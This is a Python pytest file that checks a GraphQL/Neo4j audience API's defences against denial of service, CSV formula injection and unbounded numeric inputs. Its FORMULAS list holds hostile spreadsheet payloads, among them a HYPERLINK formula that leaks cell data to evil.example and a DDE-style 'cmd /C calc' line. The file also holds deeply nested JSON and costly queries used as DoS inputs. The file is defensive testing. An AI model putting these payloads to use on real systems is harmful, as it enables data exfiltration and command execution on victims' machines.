"""Issue 14, holes 7-9: each attack run as an attacker would, against the real app and a real Neo4j.

7. Denial of service: audience definitions that nest relational conditions (each level multiplies the
   work by every member's ties), audience statements outside the API's transaction timeout, JSON
   nested deeply enough to crash the parser, attribute values Neo4j cannot hold.
8. CSV injection: formula cells (``=HYPERLINK(...)``, ``@SUM(...)``) in exports, and ids that begin
   with a formula lead on the way in (loaders, mutations).
9. Numbers without bounds: an order line of 2147483647 items at 1e308 each made an infinite order
   total (the profile failed with "Float cannot represent inf") and NaN personas (`persona analyze
   all` crashed).
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

from personagraph.graph.audiences.model import AudienceDefinitionError
from personagraph.graph.audiences.parse import parse_definition
from personagraph.graph.server.connection import ConnectionInfo
from personagraph.graph.store import GraphStore
from tests.api_support import GraphQL, secured

COUNT = "query($d: AudienceInput!) { audience(definition: $d, purpose: ANALYSIS) { count { value } } }"


@pytest.fixture(scope="module", params=["development", "production"])
def api(
    request: pytest.FixtureRequest, neo4j_connection: ConnectionInfo, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[TestClient]:
    keys = secured(tmp_path_factory.mktemp(f"keys-{request.param}"), env=request.param)
    with keys.client(neo4j_connection, crash_as_500=True) as client:
        yield client


def friends_chain(levels: int, leaf: dict[str, Any] | None = None) -> dict[str, Any]:
    """``levels`` friends conditions, each in the previous one's ``who``."""
    condition: dict[str, Any] = leaf or {"tag": {"tagId": "nobody-has-this"}}
    for _ in range(levels):
        condition = {"friends": {"who": condition}}
    return condition


# 7. Relational nesting ------------------------------------------------------------------------------

ATTACK = {"or": [friends_chain(5), {"tag": {"tagId": "vip"}}]}  # as reported: 300 s, then a 500


def test_nested_relational_conditions_are_refused_before_they_run(api: TestClient, store: GraphStore) -> None:
    """The reported definition is refused by the cost limit, as a request error (nothing ran); through
    a variable as well as written in the document."""
    gql = GraphQL(api)
    for error in (
        gql.error(COUNT, {"d": ATTACK}),
        gql.error(f"{{ audience(definition: {graphql_literal(ATTACK)}) {{ count {{ value }} }} }}"),
    ):
        assert error["extensions"]["code"] == "QUERY_TOO_COMPLEX", error
        assert error["extensions"]["cost"] > error["extensions"]["maxCost"] == 50_000
        assert "relational condition" in error["message"] and "nest fewer" in error["message"]
        assert "path" not in error  # a request error: the resolver never ran


def test_the_definition_model_caps_relational_nesting(
    neo4j_connection: ConnectionInfo, tmp_path: Path, store: GraphStore
) -> None:
    """Past the cost limit (raised here so it does not answer first), the definition itself is refused
    with BAD_USER_INPUT naming where it nests too deep; two levels are still fine."""
    keys = secured(tmp_path, api_max_cost=10**12)
    with keys.client(neo4j_connection, crash_as_500=True) as client:
        gql = GraphQL(client)
        assert gql.data(COUNT, {"d": {"or": [friends_chain(2), {"tag": {"tagId": "vip"}}]}}) == {
            "audience": {"count": {"value": 0}}
        }
        error = gql.error(COUNT, {"d": ATTACK})
    assert error["extensions"]["code"] == "BAD_USER_INPUT", error
    assert error["extensions"]["problems"] == [
        "or[0].friends.who.friends.who: relational conditions (friends, followers, referralHops) "
        "nested more than 2 deep; each level multiplies the work by every member's ties"
    ]
    # The same model for the CLI and saved definitions; followers and referrals are relational too.
    mixed = {"followers": {"who": {"referralHops": {"of": {"friends": {}}}}}}
    with pytest.raises(AudienceDefinitionError, match=r"followers\.who\.referralHops\.of: relational"):
        parse_definition(mixed)
    parse_definition({"followers": {"who": {"referralHops": {"userId": "u1"}}}})


def test_audience_cost_grows_with_relational_nesting(api: TestClient, store: GraphStore) -> None:
    """Five friends conditions side by side cost little; five friends-of-friends chains are over the
    limit, each within the model's two levels."""
    gql = GraphQL(api)
    flat = {"or": [friends_chain(1) for _ in range(5)]}
    assert gql.data(COUNT, {"d": flat}) == {"audience": {"count": {"value": 0}}}
    error = gql.error(COUNT, {"d": {"or": [friends_chain(2) for _ in range(5)]}})
    assert error["extensions"]["code"] == "QUERY_TOO_COMPLEX", error
    assert error["extensions"]["cost"] >= 5 * (100 + 100**2)
    # saveAudience takes a definition too
    save = 'mutation($d: AudienceInput!) { saveAudience(id: "a", name: "a", definition: $d) { id } }'
    assert gql.code(save, {"d": {"or": [friends_chain(2) for _ in range(5)]}}) == "QUERY_TOO_COMPLEX"


def graphql_literal(value: Any) -> str:
    """A JSON value written as a GraphQL input literal (object keys unquoted)."""
    if isinstance(value, dict):
        return "{" + ", ".join(f"{k}: {graphql_literal(v)}" for k, v in value.items()) + "}"
    if isinstance(value, list):
        return "[" + ", ".join(graphql_literal(v) for v in value) + "]"
    return json.dumps(value)


# 7. The transaction timeout --------------------------------------------------------------------------

CLIQUE = 400  # users all friends with each other: 79,800 ties


def test_audience_statements_are_stopped_at_the_api_query_timeout(
    neo4j_connection: ConnectionInfo, store: GraphStore, tmp_path: Path
) -> None:
    """An audience within every limit that still runs long (two friends levels with counts over a
    clique: 400^3 steps, about 20 s here) is stopped at the API's transaction timeout, 1 s here, and
    answered TIMEOUT. Before, audiences ran under a 300 s timeout of their own, which then surfaced as
    INTERNAL_SERVER_ERROR."""
    store.driver.execute_query(
        "UNWIND range(1, $n) AS i CREATE (:User {userId: 'clique-' + toString(i)})", n=CLIQUE
    )
    store.driver.execute_query(
        "MATCH (a:User), (b:User) WHERE a.userId < b.userId CREATE (a)-[:FRIEND_OF]->(b)"
    )
    slow = {
        "or": [
            {"friends": {"atLeast": 10_000, "who": {"friends": {"atLeast": 10_000}}}},
            {"tag": {"tagId": "vip"}},
        ]
    }
    keys = secured(tmp_path, api_query_timeout_s=1.0)
    try:
        with keys.client(neo4j_connection, crash_as_500=True) as client:
            response = client.post("/graphql", json={"query": COUNT, "variables": {"d": slow}})
    finally:
        store.run_autocommit("server/write/wipe_data")
    assert response.status_code == 200, response.text
    error = response.json()["errors"][0]
    assert error["extensions"] == {"code": "TIMEOUT"}, error
    assert error["path"] == ["audience", "count"] and "1 s" in error["message"]
    for leak in ("Neo.", "neo4j", "MATCH", "COUNT {", "Traceback"):
        assert leak not in response.text, response.text


# 7. JSON nested too deeply ----------------------------------------------------------------------------

BRACKETS = "[" * 1000 + "]" * 1000  # 2 kB


@pytest.mark.parametrize(
    "body",
    [
        '{"query": "{ __typename }", "extensions": ' + BRACKETS + "}",
        '{"query": "{ __typename }", "variables": {"v": ' + BRACKETS + "}}",
        '{"query": "{ __typename }", "extensions": {"a": ' + '{"a": ' * 1000 + "1" + "}" * 1002,
        BRACKETS,
    ],
    ids=["extensions", "variables", "objects", "body"],
)
def test_deeply_nested_json_is_a_400_with_a_graphql_error(api: TestClient, body: str) -> None:
    response = api.post("/graphql", content=body, headers={"content-type": "application/json"})
    assert response.status_code == 400, response.text
    error = response.json()["errors"][0]
    assert error["extensions"]["code"] == "BAD_REQUEST"
    assert "nested more than 64 levels" in error["message"]


def test_deeply_nested_json_in_get_parameters_is_a_400(api: TestClient) -> None:
    for name in ("variables", "extensions"):
        response = api.get("/graphql", params={"query": "{ __typename }", name: BRACKETS})
        assert response.status_code == 400, response.text
        assert response.json()["errors"][0]["extensions"]["code"] == "BAD_REQUEST"


def test_json_as_deep_as_a_real_definition_is_served(api: TestClient, store: GraphStore) -> None:
    """The limit leaves room for every definition the model accepts (8 levels) and brackets in strings."""
    deep: dict[str, Any] = {"attribute": {"field": "city", "op": "in", "value": ["[[[[" * 100]}}
    for _ in range(7):
        deep = {"and": [deep]}
    assert GraphQL(api).data(COUNT, {"d": deep}) == {"audience": {"count": {"value": 0}}}


# 7. Numbers Neo4j cannot hold -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("condition", "problem"),
    [
        ('{"attribute": {"field": "degree", "op": "in", "value": [1%s]}}' % ("0" * 30),
         "attribute.value: degree takes int values: 1%s is outside the 64-bit integer range" % ("0" * 30)),
        ('{"attribute": {"field": "reach2", "op": "gt", "value": -1%s}}' % ("0" * 19),
         "attribute.value: reach2 takes int values: -1%s is outside the 64-bit integer range" % ("0" * 19)),
        ('{"attribute": {"field": "influence", "op": "in", "value": [1e400]}}',
         "attribute.value: influence takes float values: inf is not a finite number"),
        ('{"attribute": {"field": "influence", "op": "lt", "value": NaN}}',
         "attribute.value: influence takes float values: nan is not a finite number"),
        ('{"attribute": {"field": "influence", "op": "gte", "value": 1%s}}' % ("0" * 400),
         "attribute.value: influence takes float values: inf is not a finite number"),
    ],
    ids=["int-in", "int-negative", "float-inf", "float-nan", "float-from-huge-int"],
)  # fmt: skip
def test_numbers_neo4j_cannot_hold_are_bad_user_input(
    api: TestClient, store: GraphStore, condition: str, problem: str
) -> None:
    """`degree in [1e30]` (an int past 64 bits) crashed the driver with OverflowError, an internal error;
    an infinite or NaN float was compared as if it were a number."""
    body = '{"query": ' + json.dumps(COUNT) + ', "variables": {"d": ' + condition + "}}"
    response = api.post("/graphql", content=body, headers={"content-type": "application/json"})
    assert response.status_code == 200, response.text
    error = response.json()["errors"][0]
    assert error["extensions"]["code"] == "BAD_USER_INPUT", error
    assert any(p.startswith(problem) for p in error["extensions"]["problems"]), error


def test_numbers_neo4j_cannot_hold_are_refused_in_definition_files(
    neo4j_env: dict[str, str], store: GraphStore, tmp_path: Path
) -> None:
    """The CLI reads definitions from JSON files, where nothing bounds a number (GraphQL's Int and
    Float do it for the API's typed fields): the model refuses them, naming the path."""
    from typer.testing import CliRunner

    from personagraph.cli.audience import audience_app
    from personagraph.graph.settings import get_settings

    get_settings.cache_clear()
    cases = [
        ({"influence": {"minRank": 10**30}}, r"influence\.minRank: Input should be less than or equal"),
        ({"influence": {"maxScore": float("inf")}}, r"influence\.maxScore: Input should be a finite"),
        ({"attribute": {"field": "degree", "op": "in", "value": [10**30]}}, r"attribute\.value: degree"),
    ]
    for definition, problem in cases:
        path = tmp_path / "definition.json"
        path.write_text(json.dumps(definition), encoding="utf-8")
        done = CliRunner().invoke(audience_app, ["count", str(path), "--purpose", "analysis"])
        assert isinstance(done.exception, AudienceDefinitionError), (definition, done.exception)
        assert re.search(problem, str(done.exception)), done.exception
    get_settings.cache_clear()


# 8. CSV injection -------------------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1, "Open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
]


def test_audience_exports_write_formula_cells_as_text(
    store: GraphStore, neo4j_env: dict[str, str], tmp_path: Path
) -> None:
    """Users whose city is a formula (free text the loader accepts), and ids stored before ids were
    checked: `persona audience export` and export_csv's columns write each with a leading ' (OWASP)."""
    import csv

    from typer.testing import CliRunner

    from personagraph.cli.audience import audience_app
    from personagraph.graph.audiences.service import export_csv
    from personagraph.graph.settings import get_settings

    store.driver.execute_query(
        "UNWIND range(0, size($f) - 1) AS i "
        "CREATE (:User {userId: $f[i], city: $f[i]}), (:User {userId: 'plain-' + toString(i), city: $f[i]})",
        f=FORMULAS,
    )
    expected = {"'" + f for f in FORMULAS}
    definition = tmp_path / "everyone.json"
    definition.write_text(json.dumps({"attribute": {"field": "city", "op": "exists", "value": True}}))
    get_settings.cache_clear()
    out = tmp_path / "members.csv"
    done = CliRunner().invoke(audience_app, ["export", str(definition), str(out), "--purpose", "analysis"])
    get_settings.cache_clear()
    assert done.exit_code == 0, done.output
    with out.open(encoding="utf-8", newline="") as handle:
        ids = [row[0] for row in csv.reader(handle)][1:]
    assert expected <= set(ids), ids
    assert not [i for i in ids if i[:1] in "=+-@\t\r"], ids

    with_city = tmp_path / "with-city.csv"
    export_csv(store, json.loads(definition.read_text()), with_city, purpose="analysis", columns=("city",))
    with with_city.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))[1:]
    assert {city for _, city in rows} == expected
    assert sorted(i for i, _ in rows if i.startswith("plain-")) == [f"plain-{i}" for i in range(6)]


def test_loaders_refuse_ids_that_begin_with_a_formula_lead(store: GraphStore, tmp_path: Path) -> None:
    """Each refused row names its line, column and why; text that is not an id (a city, a search's
    words) may still begin with one."""
    import csv

    from personagraph.loaders.pipeline import LoadOptions, load_file

    folder = tmp_path / "data"
    folder.mkdir()
    with (folder / "users.csv").open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["user_id", "city"])
        writer.writerow(["u-fine", "-Shanghai"])
        for formula in FORMULAS:
            writer.writerow([formula, "Beijing"])
    with (folder / "events.csv").open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["event_id", "user_id", "kind", "at", "target"])
        writer.writerow(["e1", "u-fine", "search", "2025-01-01", "-sale +shoes"])
        writer.writerow(["e2", "u-fine", "view", "2025-01-01", "=HYPERLINK(1)"])
        writer.writerow(["@e3", "u-fine", "search", "2025-01-01", "shoes"])
    options = LoadOptions(rejects_dir=tmp_path / "rejects")
    users = load_file(store, folder / "users.csv", options=options)
    events = load_file(store, folder / "events.csv", options=options)
    assert (users.rejected, events.rejected) == (len(FORMULAS), 2), (users, events)
    rejects = [
        json.loads(line)
        for name in ("users", "events")
        for line in (tmp_path / "rejects" / f"{name}.jsonl").read_text(encoding="utf-8").splitlines()
    ]
    where = sorted((r["file"], r["line"], r["field"]) for r in rejects)
    assert where[:2] == [("events.csv", 3, "target"), ("events.csv", 4, "event_id")]
    # users.csv: lines 3 on, one per formula (a quoted carriage return counts as a line break)
    assert [w[2] for w in where[2:]] == ["user_id"] * len(FORMULAS)
    assert [w[1] for w in where[2:7]] == [3, 4, 5, 6, 7]
    assert all(
        "ids may not begin with =, +, -, @, a tab or a carriage return" in r["reason"] for r in rejects
    )
    found, _, _ = store.driver.execute_query("MATCH (u:User) RETURN u.userId AS id, u.city AS city")
    assert [(r["id"], r["city"]) for r in found] == [("u-fine", "-Shanghai")]


def test_mutations_refuse_ids_that_begin_with_a_formula_lead(
    neo4j_connection: ConnectionInfo, store: GraphStore, tmp_path: Path
) -> None:
    from personagraph.graph.tags.taxonomy import TagInputError, upsert_tag

    store.driver.execute_query("CREATE (:User {userId: 'buyer'}), (:Product {sku: 'p1'})")
    order = (
        'mutation($o: ID!) { recordOrder(input: {orderId: $o, userId: "buyer", '
        'orderedAt: "2025-01-01T00:00:00Z", lines: [{sku: "p1"}]}) { orderId } }'
    )
    event = (
        'mutation($e: String) { recordEvent(input: {userId: "buyer", kind: VIEW, at: "2025-01-01T00:00:00Z", '
        'target: "p1", eventId: $e}) { new } }'
    )
    keys = secured(tmp_path)
    with keys.client(neo4j_connection, "service", crash_as_500=True) as client:
        gql = GraphQL(client)
        for formula in FORMULAS:
            upsert = gql.error("mutation($u: ID!) { upsertUser(input: {id: $u}) { id } }", {"u": formula})
            assert upsert["extensions"]["code"] == "BAD_USER_INPUT", upsert
            assert "ids may not begin with" in upsert["message"] and "user_id" in upsert["message"]
            for refused in (gql.error(order, {"o": formula}), gql.error(event, {"e": formula})):
                assert refused["extensions"]["code"] == "BAD_USER_INPUT", refused
                assert "ids may not begin with" in refused["message"], refused
            saved = gql.error(
                'mutation($a: ID!) { saveAudience(id: $a, name: "n", definition: {tag: {tagId: "vip"}}, '
                "purpose: ANALYSIS) { id } }",
                {"a": formula},
            )
            assert saved["extensions"]["code"] == "BAD_USER_INPUT" and "ids may not begin" in saved["message"]
        assert gql.data(order, {"o": "o-1"})["recordOrder"] == {"orderId": "o-1"}
        assert gql.data(event, {"e": "e-1"})["recordEvent"] == {"new": True}
    with pytest.raises(TagInputError, match="ids may not begin with"):
        upsert_tag(store, tag_id="=cmd", name="x", tier="basic")
    found, _, _ = store.driver.execute_query(
        "MATCH (n) WHERE any(k IN ['userId', 'orderId', 'audienceId', 'tagId'] WHERE n[k] STARTS WITH '=') "
        "RETURN count(n) AS n"
    )
    assert found[0]["n"] == 0


# 9. Numbers without bounds -----------------------------------------------------------------------------

RECORD_ORDER = (
    'mutation($o: ID!, $q: Int!, $p: Float) { recordOrder(input: {orderId: $o, userId: "buyer", '
    'orderedAt: "2025-01-01T00:00:00Z", lines: [{sku: "p1"}, {sku: "p1", quantity: $q, unitPrice: $p}]}) '
    "{ orderId } }"
)
PROFILE = '{ user(id: "buyer") { orders { totalCount edges { node { orderId total } } } } }'


def test_record_order_refuses_quantities_and_prices_out_of_bounds(
    neo4j_connection: ConnectionInfo, store: GraphStore, tmp_path: Path
) -> None:
    """The reported order (2147483647 items at 1e308) and its kin are BAD_USER_INPUT naming the line and
    field; nothing is written and the profile still reads. At the bounds, the order is taken."""
    store.driver.execute_query("CREATE (:User {userId: 'buyer'}), (:Product {sku: 'p1', price: 10.0})")
    keys = secured(tmp_path)
    with keys.client(neo4j_connection, "service", crash_as_500=True) as client:
        gql = GraphQL(client)
        refused = [
            (
                {"q": 2_147_483_647, "p": 1e308},
                "order line 2 quantity: Input should be less than or equal to 1000000",
            ),
            (
                {"q": 1, "p": 1e308},
                "order line 2 unit_price: Input should be less than or equal to 1000000000",
            ),
            ({"q": 1, "p": -0.01}, "order line 2 unit_price: Input should be greater than or equal to 0"),
            ({"q": 0, "p": 1.0}, "order line 2 quantity: Input should be greater than 0"),
        ]
        for variables, message in refused:
            error = gql.error(RECORD_ORDER, {"o": "attack", **variables})
            assert error["extensions"]["code"] == "BAD_USER_INPUT", error
            assert error["message"].startswith(message), error
        literal = RECORD_ORDER.replace(", $p: Float", "").replace("$p", "1e400")  # infinity in the document
        error = gql.error(literal, {"o": "attack", "q": 1})
        assert error["extensions"]["code"] == "BAD_USER_INPUT"
        assert error["message"].startswith("order line 2 unit_price: Input should be a finite number"), error
        assert gql.data(PROFILE) == {"user": {"orders": {"totalCount": 0, "edges": []}}}

        top = {"o": "big", "q": 1_000_000, "p": 1e9}
        assert gql.data(RECORD_ORDER, top) == {"recordOrder": {"orderId": "big"}}
        orders = gql.data(PROFILE)["user"]["orders"]
    # line 1 has no unit price: it counts at p1's list price, 10 (issue 15, item 4)
    assert orders["edges"] == [{"node": {"orderId": "big", "total": 1e15 + 10}}]


def test_loading_and_analysing_orders_out_of_bounds(
    neo4j_env: dict[str, str], store: GraphStore, tmp_path: Path
) -> None:
    """`persona load` rejects the rows (line and reason) and `persona analyze all` runs; before, the
    rows loaded and the persona step died on NaN."""
    import shutil

    from typer.testing import CliRunner

    from personagraph.cli.main import app
    from personagraph.graph.settings import get_settings
    from tests.conftest import DEMO_DATA

    data = tmp_path / "data"
    shutil.copytree(DEMO_DATA, data)
    bad = [
        ("2147483647", "1e308", "quantity", "less than or equal to 1000000"),
        ("1", "1e308", "unit_price", "less than or equal to 1000000000"),
        ("1", "inf", "unit_price", "finite number"),
        ("1", "NaN", "unit_price", "finite number"),
        ("1", "-5", "unit_price", "greater than or equal to 0"),
        ("99999999999999999999999", "1", "quantity", "less than or equal to 1000000"),
    ]
    with (data / "orders.csv").open("a", encoding="utf-8") as handle:
        for i, (quantity, price, _, _) in enumerate(bad):
            handle.write(f"attack-{i},u002,P100,2025-05-02T12:00:00Z,{quantity},{price},wechat\n")
    with (data / "products.csv").open("a", encoding="utf-8") as handle:
        handle.write("P-BAD,Gold plated,Voltra,Electronics,1e308,CNY\n")
    first_bad = len((DEMO_DATA / "orders.csv").read_text(encoding="utf-8").splitlines()) + 1
    get_settings.cache_clear()
    runner = CliRunner()
    try:
        loaded = runner.invoke(app, ["load", str(data), "--rejects", str(tmp_path / "rejects")])
        assert loaded.exit_code == 3, loaded.output  # rejects, the rest loaded
        analysed = runner.invoke(app, ["analyze", "all"])
        assert analysed.exit_code == 0, (analysed.output, analysed.exception)
    finally:
        get_settings.cache_clear()
    rejects = [json.loads(x) for x in (tmp_path / "rejects" / "orders.jsonl").read_text().splitlines()]
    assert [(r["line"], r["field"]) for r in rejects] == [(first_bad + i, b[2]) for i, b in enumerate(bad)]
    for reject, (_, _, _, reason) in zip(rejects, bad, strict=True):
        assert reason in reject["reason"], reject
    products = [json.loads(x) for x in (tmp_path / "rejects" / "products.jsonl").read_text().splitlines()]
    assert [(r["field"], r["value"]) for r in products] == [("price", "1e308")]
    found, _, _ = store.driver.execute_query(
        "MATCH ()-[l:CONTAINS]->() RETURN max(l.quantity * coalesce(l.unitPrice, 0)) AS top"
    )
    assert found[0]["top"] < 1e15
